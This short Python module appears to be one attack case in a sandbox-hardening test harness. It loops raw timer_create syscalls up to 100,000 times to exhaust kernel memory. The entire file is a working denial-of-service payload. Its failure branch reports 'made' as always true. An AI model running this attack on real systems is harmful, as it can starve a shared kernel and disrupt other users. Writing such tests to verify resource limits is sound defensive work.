"""Makes timers without an end, each of which is memory of the kernel's."""

import ctypes

from attacking import at_first, called

TIMER_CREATE = 222
CLOCK_MONOTONIC = 1


def attack():
    """SIGEV_NONE, so that none of them ever rings."""
    event = (ctypes.c_int * 16)(0, 0, 0, 1)
    number = ctypes.c_int()
    made = 0
    while made < 100_000:
        came = called(TIMER_CREATE, CLOCK_MONOTONIC, ctypes.addressof(event), ctypes.addressof(number))
        if came != "done":
            return {"made": made < 100_000, "why": came}
        made += 1
    return {"made": True, "why": ""}


choose = at_first(attack)
